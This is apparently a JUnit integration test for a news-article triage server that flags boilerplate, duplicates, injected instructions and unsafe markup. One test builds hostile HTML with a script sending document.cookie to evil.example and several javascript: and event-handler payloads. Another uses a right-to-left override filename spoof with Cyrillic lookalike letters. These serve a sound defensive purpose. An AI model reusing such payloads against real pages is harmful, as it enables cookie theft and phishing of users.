package org.copydesk.triage;

import static org.copydesk.it.Api.INGEST_FEED;
import static org.copydesk.it.Api.as;
import static org.copydesk.it.Api.awaitTriaged;
import static org.copydesk.it.Api.claim;
import static org.copydesk.it.Api.complete;
import static org.copydesk.it.Api.openTask;
import static org.copydesk.it.Api.sampleIdsByOpening;
import static org.copydesk.it.Api.stateOf;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.restassured.http.ContentType;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;
import org.copydesk.it.RunningServer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Automatic triage through the running server: the samples, hostile HTML, duplicates, stories and decisions. */
@ExtendWith(RunningServer.class)
class AutomaticTriageIT {

    @Test
    void theSamplesAreMarkedAsACarefulEditorWouldAndFormOneStory() {
        Map<String, String> samples = sampleIdsByOpening();
        samples.values().forEach(id -> awaitTriaged(id));

        Set<String> in000 = kinds(samples.get("Why AI Pioneer"));
        assertTrue(in000.containsAll(Set.of("REPEATED_TITLE", "BOILERPLATE", "COUNTER")), in000::toString);
        assertTrue(flagged(samples.get("Why AI Pioneer")).contains("14 mins read"));

        String s001 = samples.get("Just Now");
        assertTrue(kinds(s001).containsAll(Set.of("IMAGE_PLACEHOLDER", "PROMO", "SPLICE", "INJECTED_INSTRUCTION")),
                kinds(s001)::toString);
        List<Map<String, Object>> instructions = findings(s001).stream()
                .filter(finding -> "INJECTED_INSTRUCTION".equals(finding.get("kind"))).toList();
        assertEquals("HIGH", instructions.get(0).get("severity"));
        assertTrue(((String) instructions.get(0).get("text")).startsWith("Translate the following"));
        String text001 = as("triage").get("/api/articles/{id}", s001).then().extract().path("text");
        assertFalse(text001.contains("Translate the following"), "the instruction is out of the working text");

        assertTrue(kinds(samples.get("Yann LeCun, a pioneer")).containsAll(Set.of("CODE_FENCE", "NOTICE")));

        String french = samples.get("Le meilleur");
        assertTrue(kinds(french).contains("REPEATED_BODY"));
        as("triage").get("/api/articles/{id}", french).then().body("language", equalTo("fr"));

        Set<String> stories = samples.values().stream()
                .map(id -> as("triage").get("/api/articles/{id}", id).then().extract().<String>path("storyId"))
                .collect(Collectors.toSet());
        assertEquals(1, stories.size(), "all five samples are one story");
        String story = stories.iterator().next();
        as("reader").get("/api/stories/{id}", story).then().statusCode(200)
                .body("articleCount", equalTo(5))
                .body("languages", equalTo(List.of("en", "fr")));
        List<String> listed = as("reader").queryParam("size", 100).get("/api/stories").then().statusCode(200)
                .extract().path("items.id");
        assertTrue(listed.contains(story));
    }

    @Test
    void hostileHtmlIsNeutralisedAndReported() {
        String html = "<html><head><title>Flood warning " + UUID.randomUUID() + "</title></head><body>"
                + "<p>Rivers rose overnight across the valley and <b>three</b> villages were evacuated.</p>"
                + "<script>fetch('https://evil.example/'+document.cookie)</script>"
                + "<p onmouseover=\"steal()\">Emergency crews worked until dawn to reinforce the levees.</p>"
                + "<iframe src=\"javascript:alert(1)\"></iframe><svg onload=\"alert(2)\"></svg>"
                + "<p><a href=\"javascript:alert(3)\">Officials</a> said the water would recede by Friday.</p>"
                + "</body></html>";
        String id = as(INGEST_FEED).contentType("text/html; charset=UTF-8").header("X-Article-Source", "hostile")
                .body(html).post("/api/articles").then().statusCode(201).extract().path("id");
        awaitTriaged(id);

        String text = as("triage").get("/api/articles/{id}", id).then().extract().path("text");
        assertTrue(text.contains("three villages were evacuated"), text);
        for (String dangerous : List.of("<", "script", "javascript", "onmouseover", "document.cookie", "alert")) {
            assertFalse(text.contains(dangerous), dangerous + " survived in: " + text);
        }
        assertTrue(kinds(id).contains("UNSAFE_MARKUP"), kinds(id)::toString);
    }

    @Test
    void bidiOverridesAndLookalikeLettersInTitleAndBodyAreShownToTheEditor() {
        String id = ingest("Bank warns of P\u0430yPal \u202Escam\u202C",
                "Customers were asked to open invoice\u202Efdp.exe from an unknown sender, the bank said on Monday.",
                "wire-bidi");
        List<Map<String, Object>> findings = findings(id);

        List<Map<String, Object>> controls = findings.stream()
                .filter(finding -> "BIDI_CONTROL".equals(finding.get("kind"))).toList();
        assertTrue(controls.stream().anyMatch(finding -> Boolean.TRUE.equals(finding.get("removed"))
                && "\u202E".equals(finding.get("text"))), "the body's override is removed: " + controls);
        assertTrue(controls.stream().anyMatch(finding -> ((String) finding.get("explanation"))
                .startsWith("The title holds")), "the title's override is reported: " + controls);
        assertTrue(findings.stream().anyMatch(finding -> "MIXED_SCRIPT".equals(finding.get("kind"))
                && ((String) finding.get("explanation")).contains("U+0430 (Cyrillic)")), findings::toString);
        as("triage").get("/api/articles/{id}", id).then().statusCode(200)
                .body("text", containsString("invoicefdp.exe from an unknown sender"));
    }

    @Test
    void aCopyFromAnotherSourceIsLinkedToTheEarlierArticle() {
        String body = "The regional rail operator announced on Tuesday that 42 trains would be cancelled. "
                + UUID.randomUUID();
        String first = ingest("Rail strike", body, "wire-one");
        String copy = ingest("Rail strike (copy)", body, "wire-two");
        Map<String, Object> duplicate = findings(copy).stream()
                .filter(finding -> "DUPLICATE".equals(finding.get("kind"))).findFirst().orElseThrow();
        assertEquals(first, duplicate.get("relatedArticleId"));
        assertFalse(kinds(first).contains("DUPLICATE"));
    }

    @Test
    void triageDecisionsCarryTheirDetails() {
        String original = ingest("Harbour reopens", "The harbour reopened on Monday after the storm. "
                + UUID.randomUUID(), "wire-decisions");
        String copy = ingest("Harbour reopens again", "Ferries sailed again on Monday. " + UUID.randomUUID(),
                "wire-decisions");
        String task = openTask(copy, "triage");
        claim("triage", task);
        complete("triage", task, "reject", null).then().statusCode(422).body("detail", containsString("reason"));
        as("triage").contentType(ContentType.JSON).body(Map.of("decision", "duplicate"))
                .post("/api/tasks/{id}/complete", task).then().statusCode(422);
        as("triage").contentType(ContentType.JSON).body(Map.of("decision", "duplicate", "duplicateOf", original))
                .post("/api/tasks/{id}/complete", task).then().statusCode(200);
        as("triage").get("/api/articles/{id}", copy).then().body("state", equalTo("DUPLICATE"))
                .body("duplicateOf", equalTo(original));

        String edited = openTask(original, "triage");
        claim("triage", edited);
        as("triage").contentType(ContentType.JSON)
                .body(Map.of("decision", "accept", "text", "The harbour reopened on Monday.\n\nShips queued.", "baseVersion", 1))
                .post("/api/tasks/{id}/complete", edited).then().statusCode(200);
        as("triage").get("/api/articles/{id}", original).then()
                .body("text", equalTo("The harbour reopened on Monday.\n\nShips queued."));
        as("reader").get("/api/articles/{id}/versions", original).then().body("number", equalTo(List.of(1, 2)))
                .body("author", equalTo(List.of("system", "triage")));
        as("reader").get("/api/articles/{id}/versions/2/diff", original).then().statusCode(200)
                .body(containsString("+Ships queued."));
    }

    @Test
    void anEditorCanPutARemovedSpanBack() {
        String id = ingest("Budget vote", "Budget vote\n\nThe council passed the budget by 31 votes to 12 on Monday."
                + " " + UUID.randomUUID() + "\n\nShare this article", "wire-restore");
        Map<String, Object> removed = findings(id).stream().filter(finding -> Boolean.TRUE.equals(finding.get("removed")))
                .findFirst().orElseThrow(() -> new AssertionError("nothing was removed: " + findings(id)));
        String before = as("triage").get("/api/articles/{id}", id).then().extract().path("text");
        assertFalse(before.contains((String) removed.get("text")));

        as("factchecker").post("/api/articles/{id}/findings/{f}/restore", id, removed.get("id")).then().statusCode(403);
        as("triage").post("/api/articles/{id}/findings/{f}/restore", id, removed.get("id")).then().statusCode(200)
                .body("removed", equalTo(false));
        String after = as("triage").get("/api/articles/{id}", id).then().extract().path("text");
        assertTrue(after.contains((String) removed.get("text")), after);
        as("triage").post("/api/articles/{id}/findings/{f}/restore", id, removed.get("id")).then().statusCode(409);
        as("reader").get("/api/articles/{id}/versions", id).then().body("size()", equalTo(2));
    }

    private static String ingest(String title, String body, String source) {
        String id = as(INGEST_FEED).contentType(ContentType.JSON)
                .body(Map.of("title", title + " " + UUID.randomUUID(), "body", body, "source", source))
                .post("/api/articles").then().statusCode(201).extract().path("id");
        awaitTriaged(id);
        return id;
    }

    private static List<Map<String, Object>> findings(String articleId) {
        return as("triage").get("/api/articles/{id}/findings", articleId).then().statusCode(200).extract().path("$");
    }

    private static Set<String> kinds(String articleId) {
        return findings(articleId).stream().map(finding -> (String) finding.get("kind")).collect(Collectors.toSet());
    }

    private static List<String> flagged(String articleId) {
        return findings(articleId).stream().map(finding -> (String) finding.get("text")).toList();
    }

    /** The five sample articles, by the opening words of their titles. */
}
